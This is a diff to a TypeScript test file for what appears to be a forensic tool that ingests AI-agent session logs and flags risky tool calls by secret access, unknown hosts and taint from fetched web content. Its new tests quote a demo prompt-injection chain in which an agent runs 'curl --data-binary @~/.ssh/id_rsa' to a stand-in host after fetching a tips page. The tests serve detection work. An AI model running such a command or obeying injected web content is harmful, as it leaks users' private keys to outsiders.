@@ -36,6 +36,26 @@ async function expectedRows(): Promise<string[]> {
   return out.sort();
 }
 
+/**
+ * A copy of the case whose database `sql` edits; the evidence is untouched (the case still
+ * verifies) and the edit is re-sealed in custody (issue 20), as an investigator would record it.
+ */
+async function editedCopy(prefix: string, ...sql: string[]): Promise<string> {
+  const copy = join(mkdtempSync(join(tmpdir(), prefix)), "case");
+  cpSync(caseDir, copy, { recursive: true });
+  const instance = await DuckDBInstance.create(join(copy, "case.duckdb"));
+  const connection = await instance.connect();
+  for (const statement of sql) await connection.run(statement);
+  connection.closeSync();
+  instance.closeSync();
+  await (await CustodyLog.open(join(copy, "custody.jsonl"))).append("database.sealed", { path: "case.duckdb", sha256: await sha256File(join(copy, "case.duckdb")) });
+  return copy;
+}
+
+type Step = Record<string, unknown> & { secret_kinds: string[]; tainted: boolean };
+const stepOf = (row: Record<string, unknown>) => row.step as Step | undefined;
+const commandOf = (row: Record<string, unknown>) => String((row.target as { command?: string | null }).command ?? "");
+
 test.before(async () => {
   caseDir = join(mkdtempSync(join(tmpdir(), "oclog-ingest-case-")), "case");
   await runDemo({ caseDir, oclogVersion: "test" });
@@ -144,16 +164,8 @@ test("a case that does not verify sends nothing and says why", async (t) => {
 });
 
 test.serial("a row over 1 MB is not sent, kept aside and left pending; the rest arrive", async (t) => {
-  const copy = join(mkdtempSync(join(tmpdir(), "oclog-ingest-big-")), "case");
-  cpSync(caseDir, copy, { recursive: true });
-  // The evidence is untouched (the case still verifies); only one event's text is made huge.
-  const instance = await DuckDBInstance.create(join(copy, "case.duckdb"));
-  const connection = await instance.connect();
-  await connection.run("UPDATE events SET message = repeat('x', 1200000) WHERE rowid = (SELECT min(rowid) FROM events)");
-  connection.closeSync();
-  instance.closeSync();
-  // custody seals case.duckdb's hash (issue 20): this deliberate edit is re-sealed, as an investigator would record it.
-  await (await CustodyLog.open(join(copy, "custody.jsonl"))).append("database.sealed", { path: "case.duckdb", sha256: await sha256File(join(copy, "case.duckdb")) });
+  // Only one event's text is made huge.
+  const copy = await editedCopy("oclog-ingest-big-", "UPDATE events SET message = repeat('x', 1200000) WHERE rowid = (SELECT min(rowid) FROM events)");
   const s = setup();
   const result = await ingestCase({ caseDir: copy, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
   t.is(result.failed.length, 1);
@@ -164,6 +176,69 @@ test.serial("a row over 1 MB is not sent, kept aside and left pending; the rest 
   t.true(standIn.requests.filter((r) => r.ruleId === s.ruleId).every((r) => r.status === 204), "the service never saw the big row");
   const ledger = readFileSync(s.ledgerPath, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { pending: number[] });
   t.is(ledger.flatMap((e) => e.pending).length, 1);
+});
+
+test.serial("a tool call's row carries `step`, what tool_steps parsed of it and its taint; other rows carry none", async (t) => {
+  const s = setup();
+  const result = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
+  t.is(result.sent, events);
+  const rows = s.accepted();
+  const stepColumns = (await runCaseQuery(caseDir, "SELECT * FROM tool_steps LIMIT 0")).columns.filter((c) => c.startsWith("step_"));
+  const steps = Number((await runCaseQuery(caseDir, "SELECT count(*) AS n FROM tool_steps")).rows[0]!.n);
+  t.true(steps >= 5);
+  // Each step once, on its call's row (the trajectories' copy of a call is not in tool_steps).
+  const withStep = rows.filter((r) => stepOf(r) !== undefined);
+  t.is(withStep.length, steps);
+  t.true(withStep.every((r) => r.action === "tool.call"));
+  const others = rows.filter((r) => r.action !== "tool.call");
+  t.true(others.length > 100);
+  t.true(others.every((r) => !("step" in r)));
+
+  // The injection chain's exfiltration: `curl --data-binary @~/.ssh/id_rsa` to a host never fetched from.
+  const exfil = withStep.filter((r) => /id_rsa/.test(commandOf(r)) && /curl/.test(commandOf(r)));
+  t.is(exfil.length, 1);
+  const step = stepOf(exfil[0]!)!;
+  t.deepEqual(step.secret_kinds, ["ssh-private-key"]);
+  t.deepEqual(step.secret_paths, ["/home/alice/.ssh/id_rsa"]);
+  t.deepEqual(step.unknown_hosts, ["collect.example.net"]);
+  t.deepEqual(step.new_hosts, ["collect.example.net"]);
+  t.deepEqual([step.outbound_data, step.download_and_run, step.destroys, step.persistence_kinds], [true, false, "none", []]);
+  t.deepEqual([step.tainted, step.secret_read_before, step.fetched_hosts], [true, true, ["ai-tips.example.net"]]);
+  t.regex(String(step.taint_via), /^web_fetch https:\/\/ai-tips\.example\.net\//);
+  t.regex(String(step.taint_at), /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
+  // Every step column but the full classification, without the prefix; the taint columns by name.
+  const keys = Object.keys(step);
+  t.deepEqual(keys.filter((k) => k.startsWith("step_") || k === "class"), []);
+  t.deepEqual(stepColumns.filter((c) => c !== "step_class" && !keys.includes(c.slice("step_".length))), []);
+  for (const k of ["tainted", "taint_session", "taint_at", "taint_via", "taint_blob", "taint_line", "fetched_hosts", "secret_read_before"]) t.true(keys.includes(k), k);
+  // A call that is none of that is parsed too: nothing to say, said as empty lists and false.
+  const harmless = withStep.find((r) => commandOf(r) === "echo oclog-harness");
+  t.deepEqual([stepOf(harmless!)!.secret_kinds, stepOf(harmless!)!.tainted, stepOf(harmless!)!.programs], [[], false, ["echo"]]);
+});
+
+test.serial("a case made before tool_steps existed ingests whole, with no step on any row", async (t) => {
+  const copy = await editedCopy("oclog-ingest-old-", "DROP TABLE tool_steps");
+  const s = setup();
+  const result = await ingestCase({ caseDir: copy, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
+  t.deepEqual([result.sent, result.failed, result.invalid], [events, [], []]);
+  const rows = s.accepted();
+  t.is(rows.length, events);
+  t.true(rows.some((r) => r.action === "tool.call"));
+  t.true(rows.every((r) => !("step" in r)));
+});
+
+test("a step column the loader adds later is sent too, without its prefix", async (t) => {
+  const copy = await editedCopy(
+    "oclog-ingest-newcol-",
+    "ALTER TABLE tool_steps ADD COLUMN step_runs_files VARCHAR[]",
+    "UPDATE tool_steps SET step_runs_files = ['/tmp/payload.sh'] WHERE call_id = 'call_demo_exfil'",
+  );
+  const manifest = JSON.parse(readFileSync(join(copy, "manifest.json"), "utf8")) as CaseManifest;
+  const steps: Step[] = [];
+  for await (const blob of readCaseEvents(copy, manifest)) steps.push(...blob.rows.map((r) => stepOf(r.row)).filter((x) => x !== undefined));
+  t.true(steps.length >= 5);
+  t.true(steps.every((step) => "runs_files" in step));
+  t.deepEqual(steps.filter((step) => step.runs_files !== null).map((step) => step.runs_files), [["/tmp/payload.sh"]]);
 });
 
 test("--dry-run counts what would go and writes nothing", async (t) => {
